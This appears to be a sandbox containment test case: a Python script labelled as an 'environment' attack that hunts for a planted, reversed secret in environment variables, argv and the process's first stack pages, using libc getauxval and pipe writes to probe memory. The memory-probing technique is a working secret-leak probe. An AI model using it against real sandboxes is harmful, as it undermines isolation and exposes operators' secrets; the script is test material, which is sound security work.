# /// attack
# kind = "environment"
# aim = "find the environment and the command line of whoever started the sandbox"
# outcome = "exited"
# ///
import ctypes
import json
import os
import sys

given = json.loads(input())
libc = ctypes.CDLL(None, use_errno=True)
libc.getauxval.restype = ctypes.c_ulong
libc.write.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_size_t]
ours, theirs = os.pipe()
word = given["secret_backwards"]


def holds(data):
    return word.encode() in data[::-1]


if holds(repr(dict(os.environ)).encode()) or holds(repr([sys.argv, sys.orig_argv, sys.path]).encode()):
    print("managed to find it in Python's own names")
page = libc.getauxval(31) & ~4095  # AT_EXECFN: the strings that the kernel puts on the first stack page
found = 0
for address in range(page - 32 * 4096, page + 2 * 4096, 4096):
    if libc.write(theirs, address, 4096) == 4096:
        found += 1
        if holds(os.read(ours, 4096)):
            print("managed to find it on the first stack page")
if not found:
    print("could not look")
print("contained")
